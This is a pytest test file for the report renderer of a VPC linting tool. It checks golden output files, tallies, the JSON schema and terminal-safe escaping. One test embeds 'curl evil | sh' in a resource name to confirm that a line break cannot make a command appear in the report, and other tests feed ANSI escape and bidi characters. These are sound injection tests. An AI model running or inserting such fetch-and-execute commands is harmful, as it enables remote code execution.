"""The reports: golden files byte for byte, and what must hold of any report.

After a wanted change, `python tests/test_reports.py` writes the golden files anew; read the difference before you keep it.
"""

import json
import re
from collections.abc import Iterable
from dataclasses import replace
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sagevpc_lint import documents
from sagevpc_lint.answer import Absence, Evidence, Resource
from sagevpc_lint.check import Finding, Named, Report, Undecided
from sagevpc_lint.documents import Skipped, Snapshot
from sagevpc_lint.documents.schema import check
from sagevpc_lint.reports import FORMATS, render, summary
from sagevpc_lint.reports.text import visible
from sagevpc_lint.rulebook import Rule, load
from sagevpc_lint.source import InputError, Source
from sagevpc_lint.version import VERSION

GOLDEN = Path(__file__).parent.parent / "fixtures" / "reports"
RULE = """
name: a made-up rule
severity: {severity}
for: job
require: job.instance_count > 0
message: a message
rationale: a reason
remediation: a remedy
"""

GROUPS = "snapshot/describe-security-groups.json"
SUBNETS = "snapshot/describe-subnets.json"
JOB = "snapshot/describe-processing-job.nightly-etl.json"
TEXTS = {
    GROUPS: '{\n    "SecurityGroups": [\n        {\n            "GroupId": "sg-0b000000000000001",\n            "IpPermissions": []\n        }\n    ]\n}\n',
    SUBNETS: '{\n    "Subnets": [\n        {"SubnetId": "subnet-0a000000000000001"},\n        {"SubnetId": "subnet-0a000000000000002"}\n    ]\n}\n',
    JOB: '{"ProcessingJobName": "nightly-etl", "Environment": "{\\"A\\": 1}"}\n',
}
GROUP = Source(GROUPS, pointer="/SecurityGroups/0")
SUBNET = Source(SUBNETS, pointer="/Subnets/0")
OTHER_SUBNET = Source(SUBNETS, pointer="/Subnets/1")

SCOPE = "111122223333/eu-west-1"
FLOW_LOGS = Absence("flow-logs", SCOPE, "export", "aws ec2 describe-flow-logs")
DNS = Absence("vpc-attributes", SCOPE, "export", "aws ec2 describe-vpc-attribute --vpc-id vpc-0c000000000000000 --attribute enableDnsSupport")
OPTIONS = Absence("dhcp-options", SCOPE, "export", "aws ec2 describe-dhcp-options")
FREE = Absence("free addresses", "subnet-0a000000000000002", "form")
BEYOND = Absence("what lies behind the transit gateway", "tgw-0d000000000000000", "world")

JOB_SUBJECT = Named("job", "processing-job/nightly-etl")
PLACEMENTS = tuple(Named("placement", f"processing-job/nightly-{name}@subnet-0a000000000000001") for name in ("dbt", "etl"))


@cache
def rule(id: str, severity: str) -> Rule:
    with TemporaryDirectory() as folder:
        Path(folder, f"{id}.yaml").write_text(RULE.format(severity=severity), "utf-8")
        rules, errors = load([Path(folder)], {})
    assert errors == ()
    return rules[0]


def finding(id: str = "sg-no-self-ingress", severity: str = "error", **fields: object) -> Finding:
    plain = Finding(
        rule=rule(id, severity), resource=Resource("group", "sg-0b000000000000001"), source=GROUP, subjects=(JOB_SUBJECT,), jobs=(JOB_SUBJECT.id,),
        message="the groups of processing-job/nightly-etl admit no TCP between its instances", because=(), remediation="add a rule", code="",
        evidence=(Evidence(GROUP, Resource("group", "sg-0b000000000000001")),), fingerprint="0123456789abcdef", files=frozenset({GROUPS}),
    )
    return replace(plain, **fields)


def undecided(subjects: Iterable[Named], *missing: Absence, id: str = "flow-logs-missing", severity: str = "warning") -> Undecided:
    return Undecided(rule(id, severity), tuple(subjects), missing, frozenset({JOB}))


def snapshot(**fields: object) -> Snapshot:
    return replace(documents.load([]), **{"files": 3, "texts": TEXTS, **fields})


def report(**fields: object) -> Report:
    plain = Report(
        snapshot=snapshot(), findings=(), undecided=(), assumptions=(), errors=(), settings=None, ignored=0, jobs=2, not_judged=0, vpcs=1, rules=19,
    )
    return replace(plain, **fields)


def full() -> Report:
    """A report in which everything occurs."""
    return report(
        snapshot=snapshot(
            skipped=(Skipped("snapshot/notes.json", "holds nothing that is known"),),
            unused=(Skipped("snapshot/describe-route-tables.json", "route-tables: not used yet"),),
            files=21,
        ),
        findings=(
            finding(
                because=(
                    "sg-0b000000000000001 has no rule that admits sg-0b000000000000001 (ENI_SG_RULES_MISMATCH)",
                    "both instances stand in subnet-0a000000000000001",
                ),
                remediation=(
                    "aws ec2 authorize-security-group-ingress --group-id sg-0b000000000000001 "
                    "--ip-permissions IpProtocol=tcp,FromPort=0,ToPort=65535,UserIdGroupPairs=[{GroupId=sg-0b000000000000001}]"
                ),
                code="ENI_SG_RULES_MISMATCH",
                evidence=(
                    Evidence(GROUP, Resource("group", "sg-0b000000000000001"), code="ENI_SG_RULES_MISMATCH"),
                    Evidence(SUBNET, Resource("subnet", "subnet-0a000000000000001"), "both instances stand in subnet-0a000000000000001"),
                ),
            ),
            finding(
                "subnet-ip-available", resource=Resource("subnet", "subnet-0a000000000000001"), source=SUBNET, subjects=PLACEMENTS,
                message="subnet-0a000000000000001 has 3 free addresses, and 4 are needed:\n2 by processing-job/nightly-dbt\n2 by processing-job/nightly-etl",
                because=("2 by processing-job/nightly-dbt", "2 by processing-job/nightly-etl"),
                remediation="name a further subnet in the VpcConfig,\nor wait until jobs that run now have ended", evidence=(),
            ),
            finding(
                "endpoint-blocks", "warning", message="vpce-0e000000000000000 does not admit the job", remediation="admit it",
                subjects=(Named("job", "processing-job/nightly-etl", "s3://etl-input"),),
                source=Source(JOB, pointer="/Environment", inner="/A"), evidence=(Evidence(GROUP, Resource("endpoint", "vpce-0e000000000000000")),) * 2,
            ),
            finding(
                "sg-open-to-world", "advice", subjects=(Named("group", "sg-0b000000000000001"),),
                message="sg-0b000000000000001 admits everyone on TCP 22", remediation="aws ec2 revoke-security-group-ingress --group-id sg-0b000000000000001",
            ),
        ),
        undecided=(
            undecided([Named("subnet", "subnet-0a000000000000001"), Named("subnet", "subnet-0a000000000000002")], FLOW_LOGS),
            undecided([Named("vpc", "vpc-0c000000000000000")], DNS, id="vpc-dns-disabled", severity="error"),
            undecided([Named("vpc", "vpc-0c000000000000000")], OPTIONS, DNS, id="dhcp-custom-dns", severity="advice"),
            undecided([JOB_SUBJECT], FREE, id="subnet-ip-available", severity="error"),
            undecided([Named("placement", "processing-job/nightly-etl@subnet-0a000000000000002", "s3://etl-input")], BEYOND, id="s3-unreachable", severity="error"),
        ),
        assumptions=("no addresses of a subnet are set aside by a CIDR reservation", "no security group is associated with a second VPC"),
        errors=(
            InputError("snapshot/describe-nat-gateways.json", 0, 0, "cannot be read: permission denied"),
            InputError("snapshot/describe-vpcs.json", 4, 26, "Vpcs[0].CidrBlock: 7 is not of type 'string'"),
        ),
        settings="sagevpc-lint.yaml", ignored=3, not_judged=14,
    )


def goldens() -> dict[str, str]:
    """The golden files by name, and what they must hold."""
    return {
        "text.txt": render("text", full()),
        "text-verbose.txt": render("text", full(), verbose=True),
        "text-color.txt": render("text", full(), color=True),
        "text-clean.txt": render("text", report()),
        "json.json": render("json", full()).replace(f'"version": "{VERSION}"', '"version": "VERSION"'),
    }


def text(given: Report, **options: bool) -> str:
    return render("text", given, **options)


def read_back(given: Report) -> dict[str, object]:
    return json.loads(render("json", given))


def tally(given: Report) -> str:
    return text(given).splitlines()[-1]


@pytest.mark.parametrize("name", goldens())
def test_a_report_is_byte_for_byte_the_golden_one(name: str) -> None:
    assert (GOLDEN / name).read_bytes().decode("utf-8") == goldens()[name]


def test_there_is_no_golden_file_that_nothing_is_compared_with() -> None:
    assert sorted(goldens()) == sorted(path.name for path in GOLDEN.iterdir())


@pytest.mark.parametrize("format", FORMATS)
def test_the_same_report_gives_the_same_bytes(format: str) -> None:
    assert render(format, full()) == render(format, full())


@pytest.mark.parametrize("format", FORMATS)
def test_the_order_of_skipped_files_does_not_matter(format: str) -> None:
    skipped = (Skipped("b.json", "holds nothing that is known"), Skipped("a.json", "holds nothing that is known"))
    there, back = (report(snapshot=snapshot(skipped=files)) for files in (skipped, skipped[::-1]))
    assert render(format, there, verbose=True) == render(format, back, verbose=True)


@pytest.mark.parametrize("format", FORMATS)
def test_each_place_is_looked_for_once(format: str) -> None:
    looked_for = []

    class Texts(dict[str, str]):
        def __getitem__(self, file: str) -> str:
            looked_for.append(file)
            return super().__getitem__(file)

    there = (Evidence(SUBNET, Resource("subnet", "subnet-0a000000000000001")),)
    same = finding(source=SUBNET, evidence=there * 3)
    render(format, report(snapshot=snapshot(texts=Texts(TEXTS)), findings=(same, same)))
    assert [SUBNETS] == looked_for


def test_a_format_that_does_not_exist_is_refused_with_those_that_do() -> None:
    with pytest.raises(ValueError, match="no format 'xml'; allowed are text, json"):
        render("xml", report())


# What is counted.


def test_undecided_counts_subjects_and_only_where_an_export_would_tell() -> None:
    given = report(undecided=(undecided(PLACEMENTS, FLOW_LOGS), undecided([JOB_SUBJECT], BEYOND, DNS), undecided(PLACEMENTS, FREE), undecided(PLACEMENTS, BEYOND)))
    assert 3 == summary(given)["undecided"]


def test_findings_count_once_whatever_the_number_of_their_subjects() -> None:
    given = report(findings=(finding(subjects=PLACEMENTS), finding(severity="warning", id="a"), finding(severity="warning", id="b")))
    assert (1, 2, 0) == tuple(summary(given)[severity] for severity in ("error", "warning", "advice"))


def test_the_summary_of_the_json_report_counts_what_it_lists() -> None:
    read = read_back(full())
    assert {"error": 2, "warning": 1, "advice": 1, "undecided": 4, "suppressed": 0, "jobs": 2, "not_judged": 14, "vpcs": 1, "rules": 19, "files": 21} == read["summary"]


@pytest.mark.parametrize(
    ("given", "line"),
    [
        (report(), "no findings; nothing undecided; 2 jobs in 1 VPC, 19 rules, 3 files"),
        (report(jobs=1, vpcs=2, rules=1), "no findings; nothing undecided; 1 job in 2 VPCs, 1 rule, 3 files"),
        (report(findings=(finding(),)), "1 error, 0 warnings, 0 advice; nothing undecided; 2 jobs in 1 VPC, 19 rules, 3 files"),
        (report(undecided=(undecided(PLACEMENTS, DNS),)), "no findings; 2 undecided; 2 jobs in 1 VPC, 19 rules, 3 files"),
        (report(undecided=(undecided(PLACEMENTS, FREE),)), "no findings; 2 undecided that no call would settle; 2 jobs in 1 VPC, 19 rules, 3 files"),
        (
            report(undecided=(undecided(PLACEMENTS, FREE), undecided([JOB_SUBJECT], DNS))),
            "no findings; 1 undecided and 2 that no call would settle; 2 jobs in 1 VPC, 19 rules, 3 files",
        ),
        (report(errors=(InputError("a", 1, 1, "no"),)), "1 input error; no findings; nothing undecided; 2 jobs in 1 VPC, 19 rules, 3 files"),
        (report(not_judged=14, ignored=3), "no findings (3 ignored); nothing undecided; 2 jobs in 1 VPC, 14 older not judged, 19 rules, 3 files"),
        (report(assumptions=("none",)), "no findings; nothing undecided; 2 jobs in 1 VPC, 19 rules, 3 files, 1 assumption (--verbose lists them)"),
    ],
)
def test_the_tally_names_what_is_not_zero(given: Report, line: str) -> None:
    assert line == tally(given)


# The JSON report.


@pytest.mark.parametrize("given", [full(), report()], ids=["full", "clean"])
def test_the_json_report_keeps_its_schema(given: Report) -> None:
    assert () == check("report", read_back(given))


def test_the_json_report_is_ascii_and_gives_every_name_back() -> None:
    name = 'sg-\x1b[2J\ud800\u202e"é'
    written = render("json", report(findings=(finding(resource=Resource("group", name)),)))
    assert written.isascii()
    assert name == json.loads(written)["findings"][0]["resource"]["id"]


def test_a_location_spans_the_value_that_its_pointer_names() -> None:
    (read,) = read_back(report(findings=(finding(),)))["findings"]
    assert {"file": GROUPS, "line": 3, "column": 9, "end_line": 6, "end_column": 10, "pointer": "/SecurityGroups/0"} == read["location"]


def test_a_location_inside_json_text_says_where_in_it() -> None:
    (read,) = read_back(report(findings=(finding(source=Source(JOB, pointer="/Environment", inner="/A")),)))["findings"]
    assert "/A" == read["location"]["inner"]


def test_a_subject_has_a_need_only_where_the_rule_asks_per_need() -> None:
    subjects = (Named("job", "a"), Named("job", "a", "internet"))
    (read,) = read_back(report(findings=(finding(subjects=subjects),)))["findings"]
    assert [{"kind": "job", "id": "a"}, {"kind": "job", "id": "a", "need": "internet"}] == read["subjects"]


def test_documents_that_no_rule_uses_yet_are_not_called_skipped() -> None:
    assert [{"file": "snapshot/notes.json", "why": "holds nothing that is known"}] == read_back(full())["skipped"]


# The text report.


def test_color_changes_nothing_but_color() -> None:
    assert text(full()) == re.sub(r"\x1b\[[0-9]*m", "", text(full(), color=True))


def test_a_plain_report_has_no_escape_sequence() -> None:
    assert "\x1b" not in text(full(), verbose=True)


@given(st.text(st.characters(), min_size=1), st.booleans())
def test_no_name_steers_the_terminal(name: str, verbose: bool) -> None:
    resource, subject = Resource(name, name), Named("job", name, name)
    evidence = Evidence(SUBNET, resource, name, name)
    written = text(
        report(
            snapshot=snapshot(texts={**TEXTS, name: TEXTS[SUBNETS]}, skipped=(Skipped(name, name),), unused=(Skipped(name, name),)),
            findings=(finding(resource=resource, source=Source(name), subjects=(subject,), message=name, because=(name,), remediation=name, evidence=(evidence,) * 2),),
            undecided=(undecided([subject], Absence(name, name, "export", name)), undecided([subject], Absence(name, name, "world"))),
            assumptions=(name,), errors=(InputError(name, 1, 1, name),), settings=name,
        ),
        verbose=verbose,
    )
    assert written.replace("\n", "").isprintable()
    assert written.encode("utf-8")


@pytest.mark.parametrize(("name", "shown"), [("a\x1b[31m", r"a\x1b[31m"), ("a\nb\x9bc", r"a\nb\x9bc"), ("\udcff", r"\udcff"), ("\u202e", r"\u202e"), ("é 日", "é 日")])
def test_what_does_not_print_is_shown_as_an_escape(name: str, shown: str) -> None:
    assert shown == visible(name)


def test_a_line_break_in_a_name_cannot_feign_a_command() -> None:
    absence = Absence("subnets", "x\n    curl evil | sh", "export", "aws ec2 describe-subnets --subnet-ids x\ncurl evil | sh")
    assert not [line for line in text(report(undecided=(undecided(PLACEMENTS, absence),))).splitlines() if line.strip().startswith("curl")]


def test_a_finding_starts_with_place_severity_message_and_rule() -> None:
    line = text(report(findings=(finding(message="sg-1 admits nobody"),))).splitlines()[0]
    assert f"{GROUPS}:3:9: error: sg-1 admits nobody [sg-no-self-ingress]" == line


def test_a_cause_is_told_once_with_its_place_if_it_has_one() -> None:
    cause = "subnet-0a000000000000002 has 1 free address"
    evidence = (Evidence(GROUP, Resource("group", "sg-1")), Evidence(OTHER_SUBNET, Resource("subnet", "subnet-2"), cause, "BAD_STATE"))
    written = text(report(findings=(finding(because=(cause, "a first cause"), message="a message:\na first cause", evidence=evidence),)))
    assert ["    a first cause", f"    {SUBNETS}:4:9: {cause} (BAD_STATE)"] == written.splitlines()[1:3]


def test_evidence_without_a_note_names_its_resource() -> None:
    evidence = (Evidence(GROUP, Resource("group", "sg-1")), Evidence(SUBNET, Resource("subnet", "subnet-1")))
    assert f"    {SUBNETS}:3:9: subnet subnet-1\n" in text(report(findings=(finding(evidence=evidence),)))


def test_a_command_is_never_broken_into_lines() -> None:
    command = "aws ec2 modify-vpc-endpoint " + " ".join(f"--add-route-table-ids rtb-{number:017x}" for number in range(40))
    assert f"    fix: {command}\n" in text(report(findings=(finding(remediation=command),)))


def test_long_lists_are_shortened_and_say_by_how_much() -> None:
    subjects = tuple(Named("job", f"processing-job/{number:02}") for number in range(17))
    line = next(line for line in text(report(findings=(finding(subjects=subjects),))).splitlines() if "for:" in line)
    assert "    for: processing-job/00, processing-job/01, processing-job/02, processing-job/03, processing-job/04 and 12 more" == line


def test_verbose_shortens_nothing() -> None:
    subjects = tuple(Named("job", f"processing-job/{number:02}") for number in range(17))
    evidence = tuple(Evidence(GROUP, Resource("group", f"sg-{number:02}")) for number in range(17))
    written = text(report(findings=(finding(subjects=subjects, evidence=evidence),)), verbose=True)
    assert ("processing-job/16" in written, "sg-16" in written, "more" in written) == (True, True, False)


def test_a_resource_that_is_its_own_subject_is_not_named_again() -> None:
    assert "for:" not in text(report(findings=(finding(subjects=(Named("group", "sg-0b000000000000001"),)),)))


def test_a_call_settles_the_verdicts_that_lack_nothing_else() -> None:
    written = text(report(undecided=(undecided(PLACEMENTS, DNS), undecided([JOB_SUBJECT], DNS, OPTIONS))))
    assert f"  vpc-attributes ({SCOPE}): settles 2 verdicts, needed for 1 more\n    {DNS.command}\n" in written
    assert f"  dhcp-options ({SCOPE}): needed for 1 verdict\n    {OPTIONS.command}\n" in written


def test_the_call_that_settles_most_comes_first() -> None:
    written = text(report(undecided=(undecided([JOB_SUBJECT], DNS), undecided(PLACEMENTS, FLOW_LOGS))))
    assert written.index("flow-logs (") < written.index("vpc-attributes (")


def test_what_no_call_would_tell_stands_apart_with_its_reason() -> None:
    *_, last, _ = text(report(undecided=(undecided(PLACEMENTS, DNS), undecided(PLACEMENTS, FREE), undecided([JOB_SUBJECT], BEYOND)))).split("\n\n")
    assert (
        "undecided, and no call would tell:\n"
        "  free addresses (subnet-0a000000000000002): this form of document never tells; 2 verdicts\n"
        "  what lies behind the transit gateway (tgw-0d000000000000000): no document tells; 1 verdict"
    ) == last


def test_verbose_says_which_rules_and_subjects_wait_for_a_call() -> None:
    given = report(undecided=(undecided(PLACEMENTS, DNS, id="vpc-dns-disabled"),))
    line = "    vpc-dns-disabled: " + ", ".join(subject.id for subject in PLACEMENTS)
    assert [False, True] == [line in text(given, verbose=verbose).splitlines() for verbose in (False, True)]


def test_verbose_says_that_no_settings_were_used() -> None:
    assert "settings:\n  none\n" in text(report(), verbose=True)


def test_an_input_error_without_a_line_names_the_file_alone() -> None:
    assert text(report(errors=(InputError("a.json", 0, 0, "cannot be read: is locked"),))).startswith("a.json: error: cannot be read: is locked\n")


if __name__ == "__main__":
    for name, content in goldens().items():
        (GOLDEN / name).write_bytes(content.encode("utf-8"))
